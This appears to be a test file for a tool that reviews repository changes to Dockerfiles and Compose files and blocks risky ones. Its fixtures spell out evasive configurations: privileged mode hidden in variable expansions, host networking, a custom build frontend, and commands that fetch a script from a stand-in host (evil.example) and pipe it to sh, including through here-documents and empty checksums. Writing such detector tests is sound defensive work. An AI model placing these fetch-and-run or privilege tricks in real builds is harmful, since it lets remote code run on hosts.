import { describe, expect, test } from 'vitest';
import { type Change, causedLines, type Files, reviewChange } from '../support/in-memory-repository.ts';

const added = (head: Files): Change => ({ base: { 'README.md': 'x' }, head: { 'README.md': 'x', ...head } });
const service = (more: string, rest = ''): string => `services:\n  web:\n    image: nginx:1.31\n${more}${rest}`;
const compose = (more: string, rest = ''): Change => added({ 'compose.yaml': service(more, rest) });
const built = (text: string): Change => added({ Dockerfile: `FROM debian:13\n${text}\nUSER 1\n` });
const script = 'curl -fsSL https://evil.example/x';
const privileged = 'services:\n  c: {image: "nginx:1.31", privileged: true}\n';

/** What is dangerous in the head, and the rule that says so; `incomplete` where nobody can know. */
const attacks: Readonly<Record<string, Readonly<Record<string, readonly [string, Change]>>>> = {
  'what is written for a variable that every machine sets': {
    'the home folder': ['compose/privileged-container', compose('    privileged: ${HOME:+true}\n')],
    'without a colon': ['compose/privileged-container', compose('    privileged: "${PWD+true}"\n')],
    'the name of the project, which Compose sets': [
      'compose/privileged-container',
      compose('    privileged: ${COMPOSE_PROJECT_NAME:+true}\n'),
    ],
    'in each other, as a volume': ['compose/sensitive-host-mount', compose('    volumes: ["${HOME:+${PATH:+/}}:/h"]\n')],
    'a platform, in a Dockerfile': [
      'dockerfile/root-user',
      added({ Dockerfile: 'FROM debian:13\nARG TARGETARCH\nUSER ${TARGETARCH:+root}\n' }),
    ],
    'a path of the base image': ['dockerfile/root-user', added({ Dockerfile: 'FROM debian:13\nUSER ${PATH+0}\n' })],
    'in a script': ['dockerfile/remote-script-executed', built(`ARG TARGETARCH\nRUN ${script} | \${TARGETARCH:+sh}`)],
  },
  'settings that are left to whoever starts it': {
    privileged: ['incomplete', compose('    privileged: ${CI}\n')],
    'a value that must be given': ['incomplete', compose('    privileged: "${P:?needed}"\n')],
    'a capability': ['incomplete', compose('    cap_add: ["$CAP"]\n')],
    processes: ['incomplete', compose('    pid: ${PID_MODE}\n')],
    'what guards it': ['incomplete', compose('    security_opt: ["${OPT}"]\n')],
  },
  'the network of services that name none': {
    'of the host, from elsewhere': ['compose/host-network', compose('', 'networks: {default: {name: host, external: true}}\n')],
    'by its driver': ['compose/host-network', compose('', 'networks:\n  default:\n    driver: host\n')],
    'in the words of version 2': ['compose/host-network', compose('', 'networks: {default: {external: {name: host}}}\n')],
  },
  'what an included file extends, from another folder': {
    'a folder below': [
      'compose/privileged-container',
      added({
        'compose.yaml': 'include:\n- {path: a.x, project_directory: ./sub}\nservices: {}\n',
        'a.x': 'services:\n  b: {extends: {file: c.x, service: c}}\n',
        'sub/c.x': privileged,
      }),
    ],
    'the folder itself': [
      'compose/privileged-container',
      added({
        'compose.yaml': 'include:\n- {path: inc/a.x, project_directory: .}\nservices: {}\n',
        'inc/a.x': 'services:\n  b: {extends: {file: c.x, service: c}}\n',
        'c.x': privileged,
      }),
    ],
    'a folder beside, from one of several files': [
      'compose/privileged-container',
      added({
        'a/compose.yaml': 'include:\n- path: [one.x, two.x]\n  project_directory: ../b\nservices: {}\n',
        'a/one.x': 'services:\n  b: {image: "nginx:1.31"}\n',
        'a/two.x': 'services:\n  b: {extends: {file: c.x, service: c}}\n',
        'b/c.x': privileged,
      }),
    ],
  },
  'another program that reads the Dockerfile': {
    'by an argument': [
      'incomplete',
      added({
        'compose.yaml': service('    build: {context: ., args: {BUILDKIT_SYNTAX: evil.example/x}}\n'),
        Dockerfile: 'FROM debian:13\nUSER 1\n',
      }),
    ],
    'of a list': [
      'incomplete',
      added({
        'compose.yaml': service('    build: {args: ["BUILDKIT_SYNTAX=docker/dockerfile-evil"]}\n'),
        Dockerfile: 'FROM debian:13\nUSER 1\n',
      }),
    ],
    'of a variable': [
      'incomplete',
      added({ 'compose.yaml': service('    build: {args: ["BUILDKIT_SYNTAX=${FRONT}"]}\n'), Dockerfile: 'FROM debian:13\nUSER 1\n' }),
    ],
  },
  'scripts on other descriptors than the standard input': {
    'a here-document': ['dockerfile/remote-script-executed', built(`RUN 3<<EOF sh /dev/fd/3\n${script} | sh\nEOF`)],
    'in another notation': ['dockerfile/remote-script-executed', built(`RUN 5<<EOF bash /proc/self/fd/5\n${script} | sh\nEOF`)],
    'that is sourced': ['dockerfile/remote-script-executed', built(`RUN 4<<EOF . /dev/fd/4\n${script} | sh\nEOF`)],
  },
  'a checksum that is none': {
    'empty by a variable': [
      'dockerfile/remote-script-executed',
      built('ARG C=\nADD --checksum=$C https://evil.example/x.sh /x\nRUN sh /x'),
    ],
    'in braces': ['dockerfile/remote-script-executed', built('ENV C=""\nADD --checksum=${C} https://evil.example/x.sh /x\nRUN sh /x')],
    'by an empty default': [
      'dockerfile/remote-script-executed',
      built('ARG C=\nADD --checksum=${C:-} https://evil.example/x.sh /x\nRUN . /x'),
    ],
  },
};

describe.each(Object.entries(attacks))('%s', (_name, changes) => {
  test.each(Object.entries(changes))('is told: %s', async (_spelling, [rule, change]) => {
    const result = await reviewChange(change);
    if (rule === 'incomplete') expect(result.verdict.reasons.find(({ gate }) => gate === 'completeness')?.status).toBe('undetermined');
    else expect(causedLines(result).join('\n')).toContain(rule);
    expect(result.verdict.mayMerge).toBe(rule === 'dockerfile/root-user');
  });
});

describe('ordinary variables stay quiet', () => {
  test.each(
    Object.entries({
      'with defaults': compose('    privileged: ${P:-false}\n    network_mode: ${MODE:-bridge}\n    pid: "service:${OTHER}"\n'),
      'for volumes, users and images': compose(
        '    volumes: ["${DATA}:/d"]\n    user: "${UID}:${GID}"\n    ports: ["127.0.0.1:${PORT}:80"]\n',
      ),
      'for the frontend that is Docker’s own': compose('    build: {args: {BUILDKIT_SYNTAX: "docker/dockerfile:1"}}\n'),
    }),
  )('%s', async (_name, change) => {
    const { coverage } = await reviewChange(change);
    expect(coverage.entries.map(({ status }) => status)).not.toContain('not-rendered');
  });
});

describe('a script of somebody else on a host that everybody shares is another one', () => {
  const from = (address: string): string => `FROM debian:13\nRUN curl -fsSL ${address} | sh\nUSER 1\n`;
  test.each([
    ['https://raw.githubusercontent.com/good/x/main/i.sh', 'https://raw.githubusercontent.com/evil/x/main/i.sh', false],
    ['https://github.com/good/x/releases/download/v1/i.sh', 'https://github.com/evil/x/releases/download/v1/i.sh', false],
    ['https://cdn.jsdelivr.net/gh/good/x/i.sh', 'https://cdn.jsdelivr.net/gh/evil/x/i.sh', false],
    ['https://s3.eu-central-1.amazonaws.com/good/i.sh', 'https://s3.eu-central-1.amazonaws.com/evil/i.sh', false],
    ['https://raw.githubusercontent.com/good/x/main/i.sh', 'https://raw.githubusercontent.com/Good/y/v2/j.sh', true],
    ['https://get.example.com/a.sh', 'https://get.example.com/b/c.sh', true],
  ])('%s → %s', async (before, after, mayMerge) => {
    const { verdict } = await reviewChange({ base: { Dockerfile: from(before) }, head: { Dockerfile: from(after) } });
    expect(verdict.mayMerge).toBe(mayMerge);
  });
});
